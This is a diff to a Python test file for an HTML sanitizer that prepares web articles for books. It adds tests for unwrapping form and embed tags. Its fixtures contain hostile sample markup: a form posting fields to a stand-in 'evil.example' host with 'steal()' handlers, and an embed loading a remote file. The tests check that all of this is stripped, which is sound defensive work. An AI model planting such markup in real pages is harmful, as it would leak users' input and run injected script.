@@ -19,12 +19,16 @@ from pipeline.markup import (
     drop_never_read,
 )
 
-# Issue 6's security rule, written out here so that shrinking the policy fails a test.
+# Issue 6's security rule, written out here so that shrinking the policy fails a test: these
+# tags never reach a book; all but WRAPPERS are dropped with their content.
 MUST_NEVER_REACH_A_BOOK = frozenset((
     "script", "style", "noscript", "template", "iframe", "frame", "frameset", "object",
     "embed", "applet", "form", "input", "button", "select", "textarea", "svg", "canvas",
     "audio", "video", "head", "title", "meta", "link", "base",
 ))
+# A form wraps a whole article on some CMSs; an embed is void, and libxml2 nests what follows it
+# inside it: both go, their content stays (issue 25).
+WRAPPERS = frozenset(("form", "embed"))
 # Void (or, for head, never left inside a body by the parser): their hostile part is an attribute.
 NO_CONTENT = frozenset(("area", "base", "col", "embed", "frame", "input", "link", "meta",
                         "param", "head"))
@@ -50,10 +54,11 @@ def tags_of(fragment: str) -> set[str]:
 
 
 def test_the_security_rule_is_in_the_policy() -> None:
-    assert MUST_NEVER_REACH_A_BOOK <= NEVER_READ_TAGS
+    assert MUST_NEVER_REACH_A_BOOK - WRAPPERS <= NEVER_READ_TAGS
+    assert not WRAPPERS & (NEVER_READ_TAGS | ARTICLE_TAGS | BOOK_ONLY_TAGS)
 
 
-@pytest.mark.parametrize("tag", sorted(MUST_NEVER_REACH_A_BOOK | NEVER_READ_TAGS))
+@pytest.mark.parametrize("tag", sorted((MUST_NEVER_REACH_A_BOOK | NEVER_READ_TAGS) - WRAPPERS))
 @pytest.mark.parametrize("write", [clean_html, book_html], ids=["clean", "book"])
 def test_what_never_reaches_a_reader_is_gone_from_both(write: Callable[[str], str],
                                                           tag: str) -> None:
@@ -62,6 +67,38 @@ def test_what_never_reaches_a_reader_is_gone_from_both(write: Callable[[str], st
     assert "SECRET" not in out and "steal" not in out and "style" not in out
     assert tag not in tags_of(out)
     assert "before" in out and "after" in out
+
+
+FORM_ARTICLE = (
+    "<p>before</p><form action='https://evil.example/post' method='post' onsubmit='steal()'>"
+    "<p>The first paragraph of the article.</p><label>Name <input name='n' value='SECRET'>"
+    "</label><button onclick='steal()'>SECRET</button><select><option>SECRET</option></select>"
+    "<textarea>SECRET</textarea><script>steal()</script><noscript>SECRET</noscript>"
+    "Loose text in the form.<p>The second paragraph.</p></form><p>after</p>")
+UNCLOSED_EMBED = ("<p>A film: <embed src='https://evil.example/x.swf' onload='steal()'>the rest of"
+                  " the paragraph.</p><p>The next one.</p>")
+
+
+@pytest.mark.parametrize("write", [clean_html, book_html], ids=["clean", "book"])
+@pytest.mark.parametrize("body, kept", [
+    (FORM_ARTICLE, ["before", "The first paragraph of the article.", "Name",
+                    "Loose text in the form.", "The second paragraph.", "after"]),
+    (UNCLOSED_EMBED, ["A film: the rest of the paragraph.", "The next one."]),
+], ids=["form", "embed"])
+def test_a_wrapper_in_an_article_goes_and_its_text_stays(write: Callable[[str], str],
+                                                         body: str, kept: list[str]) -> None:
+    out = write(body)
+    text = " ".join(etree.fromstring(f"<div>{out}</div>").itertext())
+    assert [k for k in kept if k not in " ".join(text.split())] == []
+    assert not tags_of(out) & (NEVER_READ_TAGS | WRAPPERS)
+    for hostile in ("SECRET", "steal", "evil", "action", "post", "onload", "onsubmit"):
+        assert hostile not in out
+
+
+def test_a_form_keeps_its_block_boundary() -> None:
+    """A form is a block: its text does not run into the paragraph beside it."""
+    assert clean_html("Intro text<form>Inside the form</form>Outro text") == (
+        "<p>Intro text</p><p>Inside the form</p><p>Outro text</p>")
 
 
 @pytest.mark.parametrize("old", sorted(RENAME))
@@ -118,3 +155,19 @@ def test_on_a_whole_page_a_form_keeps_its_text_and_its_controls_go() -> None:
     drop_never_read(root)
     assert [el.tag for el in root.iter()] == ["html", "body", "div", "h1", "title", "output"]
     assert "".join(root.itertext()) == "The articleOld headline4"
+
+
+def test_the_text_after_an_unclosed_embed_stays_in_the_article() -> None:
+    """libxml2 nests the rest of a page's paragraph inside a void <embed>: the whole-page
+    noise removal keeps it as it keeps <source>, and the writers unwrap it (issue 25)."""
+    from pipeline.extract import extract
+
+    prose = "<p>" + "Tea is a drink made by steeping processed leaves in hot water. " * 4 + "</p>"
+    page = (f"<html><body><article><h1>Tea</h1>{prose * 2}<p>A film: <embed src='tea.swf'>"
+            f"what the film shows is the harvest.</p>{prose * 2}</article></body></html>")
+    root = parse(page)
+    drop_never_read(root)
+    assert "the harvest" in "".join(root.itertext())
+    article = extract(page, "https://example.com/tea")
+    assert "A film: what the film shows is the harvest." in article.text
+    assert "embed" not in article.content_html and "swf" not in article.content_html
